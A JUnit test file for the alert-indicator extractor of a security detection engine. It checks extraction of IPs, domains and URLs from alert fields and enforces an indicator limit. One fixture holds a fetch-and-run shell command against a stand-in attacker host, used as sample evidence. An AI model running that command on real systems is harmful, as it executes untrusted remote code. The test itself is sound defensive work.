package io.weir.rules.indicator;

import io.weir.rules.alert.Alert;
import io.weir.rules.alert.AlertStep;
import io.weir.rules.alert.Severity;
import io.weir.rules.condition.Evidence;
import org.junit.jupiter.api.Test;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

class AlertIndicatorsTest {
    private final AlertIndicators indicators = new AlertIndicators(IndicatorScanner.ofForeign(OwnPlaces.NONE));

    private static Alert alert(
            Map<String, String> group, Map<String, String> entities, List<Evidence> evidence, List<AlertStep> steps) {
        return new Alert(
                "id",
                1,
                "default",
                0,
                "rule",
                "Rule",
                "",
                Severity.HIGH,
                1,
                0,
                0,
                0,
                false,
                group,
                entities,
                List.of(),
                List.of(),
                evidence,
                List.of(),
                steps,
                Map.of(),
                List.of(),
                Alert.NO_RISK);
    }

    @Test
    void looksInEverythingThatAnAlertKeeps() {
        Alert alert = alert(
                Map.of("source.ip", "203.0.113.5"),
                Map.of("destination.ip", "10.0.0.5", "host.name", "web.example.com", "user.name", "evil.com"),
                List.of(
                        new Evidence("process.command_line", "curl http://evil.example/x.sh | sh", "contains curl"),
                        new Evidence("dns.question.name", "drop.zip", "equals"),
                        new Evidence("process.pe.file_version", "8.8.8.8", "exists")),
                List.of(new AlertStep(
                        "step",
                        "r",
                        "R",
                        0,
                        "e",
                        "x",
                        List.of(new Evidence("message", "from 198.51.100.7", "contains")))));
        assertThat(indicators.of(alert).all())
                .map(Indicator::toString)
                .containsExactly(
                        "ipv4:198.51.100.7",
                        "ipv4:203.0.113.5",
                        "domain:drop.zip",
                        "domain:evil.example",
                        "url:http://evil.example/x.sh");
    }

    @Test
    void keepsNoMoreThanItsLimit() {
        List<Evidence> evidence = new ArrayList<>();
        for (int i = 0; i < 250; i++) {
            evidence.add(new Evidence("message", "203.0.113." + i, "contains"));
        }
        FoundIndicators found = indicators.of(alert(Map.of(), Map.of(), evidence, List.of()));
        assertThat(found.all()).hasSize(AlertIndicators.LIMIT);
        assertThat(found.cut()).isEqualTo(150);
    }
}
